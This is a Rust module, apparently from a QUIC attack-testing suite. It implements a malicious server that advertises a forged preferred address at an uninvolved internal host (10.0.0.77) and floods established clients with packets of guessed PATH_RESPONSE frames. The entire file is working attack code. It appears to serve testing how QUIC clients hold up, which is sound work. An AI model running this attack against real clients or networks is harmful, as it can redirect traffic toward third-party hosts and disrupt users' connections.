//! A server that prefers the address of an uninvolved host.

use std::net::{Ipv4Addr, SocketAddrV4};

use courser_base::Time;
use courser_crypto::Space;
use courser_wire::frame::PathResponse;
use courser_wire::{ConnectionId, Frame, PreferredAddress, TransportParameters};

use crate::attack::{Attack, Pace, Plan, Victim};
use crate::attacker::Attacker;
use crate::hooks::Hooks;
use crate::{encode, server_tls};

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "forged-preferred",
    labels: &["A57"],
    summary: "a preferred address at an uninvolved host, and PATH_RESPONSE frames with guessed data",
    victim: Victim::Client,
    make: || Box::new(ForgedPreferred),
};

struct ForgedPreferred;

/// Packets for one client in one turn.
const BURST: usize = 16;

/// PATH_RESPONSE frames in one packet.
const GUESSES: usize = 100;

impl Attack for ForgedPreferred {
    fn start(&mut self, attacker: &mut Attacker) {
        attacker.accept_with(server_tls(b"h3"), || Box::new(Prefers));
    }

    fn turn(&mut self, attacker: &mut Attacker, now: Time) -> Pace {
        for key in attacker.keys() {
            let Some(connection) = attacker.connection(key) else {
                continue;
            };
            if connection.is_closed() {
                attacker.forget(key);
                continue;
            }
            if !connection.is_established() {
                continue;
            }
            for _ in 0..BURST {
                let guess = |_| {
                    let mut data = [0; 8];
                    connection.rng().fill(&mut data);
                    encode(&Frame::PathResponse(PathResponse { data }))
                };
                let frames = (0..GUESSES).map(guess).collect();
                connection.send_packet(now, Space::Application, frames);
            }
        }
        Pace::Now
    }
}

/// Offers the address of a host that is not the attacker's.
struct Prefers;

impl Hooks for Prefers {
    fn edit_parameters(&mut self, parameters: &mut TransportParameters) {
        parameters.preferred_address = Some(PreferredAddress {
            ipv4: Some(SocketAddrV4::new(UNINVOLVED, 9)),
            ipv6: None,
            id: ConnectionId::new(&[0x77; 8]).expect("eight bytes"),
            reset_token: [0x77; 16],
        });
    }
}

/// A host in the network of the victim, where it may be preferred.
const UNINVOLVED: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 77);
